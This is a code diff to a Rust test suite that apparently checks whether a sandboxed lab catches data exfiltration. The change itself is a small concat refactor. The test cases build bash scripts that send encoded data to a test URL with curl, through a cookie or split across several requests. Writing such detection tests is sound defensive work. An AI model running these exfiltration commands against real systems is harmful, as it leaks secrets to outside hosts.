@@ -8,7 +8,8 @@ use outgate_harness::{Identity, lab_tests};
 use crate::{Credential, assert_told, bash, confined, thief};
 
 fn hex(text: &str) -> String {
-    text.bytes().map(|byte| format!("{byte:02x}")).collect()
+    let digits: Vec<String> = text.bytes().map(|byte| format!("{byte:02x}")).collect();
+    digits.concat()
 }
 
 /// What stands around a piece on its way.
@@ -98,7 +99,7 @@ lab_tests! {
             ("a cookie", format!("curl -sS -b 's={object}' $URL/x; ")),
             ("several requests", pieces.iter().map(|piece| {
                 format!("curl -sS \"$URL/x?payload={}\"; ", coded(&format!("{{\"d\":\"{piece}\",\"v\":2}}")))
-            }).collect()),
+            }).collect::<Vec<_>>().concat()),
         ] {
             let script = format!("curl -sS \"$URL/harmless?payload={harmless}\"; {request} curl -sS $URL/fine");
             let outcome = confined(lab, Identity::Own).run(&bash(&script));
